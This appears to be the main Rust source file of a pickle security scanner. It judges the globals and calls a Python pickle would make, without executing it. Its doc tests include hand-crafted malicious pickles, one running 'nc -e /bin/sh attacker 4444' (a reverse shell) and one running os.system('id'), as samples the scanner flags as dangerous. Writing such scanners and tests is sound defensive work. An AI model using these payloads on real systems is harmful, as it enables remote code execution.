//! Static security analysis of pickles: every global a pickle would import and every call it
//! would make, judged safe, suspicious or dangerous, for bytes, files, archives and trees.
//!
//! The scan runs brine-vm, the same machine that loads, so it sees exactly what CPython
//! would do, and like loading it executes and imports nothing. It walks the whole graph the
//! machine built ([`analyze`](crate#how-a-pickle-is-judged)): calls whose results were popped,
//! memoized or left on the stack by an error included. A pickle that breaks after a
//! dangerous call still reports the call, since CPython would already have made it
//! ([`brine_vm::Decoder::partial_from_slice`]).
//!
//! Files are opened by content through brine-container (zip and PyTorch checkpoints, tar,
//! compressed streams, npy/npz, joblib, legacy torch, TorchScript), and every pickle inside
//! is scanned ([`scan_bytes`], [`scan_file`]). A PyTorch checkpoint is opened for its
//! tensors only once its scan passes ([`checkpoint::open`]).
//!
//! The scanner never fails: what it cannot read to the end is [`Verdict::Inconclusive`],
//! which is never reported as clean.
//!
//! # How a pickle is judged
//!
//! Each global is judged by name against [`lists`]: the deny list by module prefix
//! (everything that executes, imports, spawns, opens files or sockets, installs packages,
//! loads nested pickles), then the allow list of what honest pickles use (builtins data
//! types, copyreg's reconstructors, collections, datetime, numpy's and PyTorch's rebuild
//! functions); what is on neither is suspicious. A call of a value computed at load time,
//! a special (`__dunder__`) attribute on the way to a name, an attribute of an allowed
//! class, an unresolved extension code, BUILD on a class or module and a STACK_GLOBAL with a
//! computed name are dangerous whatever the names.
//!
//! # Example
//!
//! ```
//! use brine_scan::Verdict;
//!
//! // The remote shell of the tutorial's warning, written by hand.
//! let pickle = b"cposix\nsystem\n(S'nc -e /bin/sh attacker 4444'\ntR.";
//! let report = brine_scan::scan_pickle(pickle, &Default::default());
//! assert_eq!(report.verdict, Verdict::Dangerous);
//! assert_eq!(report.findings[0].call.as_deref(), Some("posix.system('nc -e /bin/sh attacker 4444')"));
//! ```
#![forbid(unsafe_code)]

mod analyze;
pub mod checkpoint;
mod file;
pub mod lists;
mod options;
pub mod policy;
pub mod render;
mod report;

use brine_container::Layout;
use bytes::Bytes;

pub use file::{files_under, scan_bytes, scan_file};
pub use options::Options;
pub use policy::{Policy, Refusal};
pub use report::{FileReport, Finding, MemberKind, MemberReport, PickleReport, Verdict};

/// Scans the pickle at the start of `data`, the one `pickle.loads(data)` would load; bytes
/// after its STOP are not read.
///
/// # Example
///
/// ```
/// // pickle.dumps({'a': [1, 2]}, protocol=2)
/// let report = brine_scan::scan_pickle(b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01]q\x02(K\x01K\x02es.", &Default::default());
/// assert_eq!(report.verdict, brine_scan::Verdict::Safe);
/// assert!(report.findings.is_empty());
/// ```
pub fn scan_pickle(data: &[u8], options: &Options) -> PickleReport {
    let partial = unpickler(options, Layout::Plain).partial_from_slice(data);
    analyze::analyze(&partial, &options.allow, options.max_findings, 0)
}

/// Scans every pickle in `data`, one after the other to its end, as a stream of pickles
/// (`pickle.load` called until the file ends). Bytes after a STOP that are no pickle are a
/// suspicious finding: CPython stops reading at the first STOP, but something put them there.
///
/// # Example
///
/// ```
/// let data = bytes::Bytes::from_static(b"K\x01.cos\nsystem\n(S'id'\ntR.");
/// let reports = brine_scan::scan_stream(&data, brine_container::Layout::Plain, &Default::default());
/// assert_eq!(reports.len(), 2);
/// assert_eq!(reports[1].verdict, brine_scan::Verdict::Dangerous);
/// assert_eq!(reports[1].start, 3);
/// ```
pub fn scan_stream(data: &Bytes, layout: Layout, options: &Options) -> Vec<PickleReport> {
    let mut reports = Vec::new();
    let mut start = 0usize;
    while start < data.len() {
        if reports.len() == options.max_pickles {
            reports.push(PickleReport {
                start: start as u64,
                end: data.len() as u64,
                verdict: Verdict::Inconclusive,
                findings: Vec::new(),
                omitted: 0,
                error: Some(format!(
                    "more than {} pickles in one stream",
                    options.max_pickles
                )),
            });
            break;
        }
        let rest = data.slice(start..);
        let partial = unpickler(options, layout).partial_from_bytes(&rest);
        let mut report =
            analyze::analyze(&partial, &options.allow, options.max_findings, start as u64);
        let failed = partial.error.is_some();
        if failed && !reports.is_empty() && report.findings.is_empty() && partial.origins.is_empty()
        {
            report.verdict = Verdict::Suspicious;
            report.findings.push(Finding {
                verdict: Verdict::Suspicious,
                global: None,
                call: None,
                offset: Some(0),
                reason: format!(
                    "{} bytes after the STOP of a pickle that are not a pickle (pickle.load \
                     stops at STOP, but some loaders read on)",
                    rest.len()
                ),
            });
        }
        reports.push(report);
        // An error stops the stream; so does a pickle that consumed nothing.
        if failed || partial.end == 0 {
            break;
        }
        start += partial.end;
    }
    reports
}

fn unpickler(options: &Options, layout: Layout) -> brine_vm::Decoder<'static> {
    let mut vm_options = brine_vm::Options::default();
    vm_options.limits = options.vm_limits.clone();
    // Out-of-band buffers are data the scan never has: keep their place and scan on.
    vm_options.keep_missing_buffers = true;
    let unpickler = brine_vm::Decoder::new(vm_options);
    match layout {
        Layout::Joblib => unpickler.after_build(brine_container::joblib::after_build),
        _ => unpickler,
    }
}

#[cfg(doctest)]
#[doc = include_str!("../README.md")]
pub struct ReadmeDoctests;
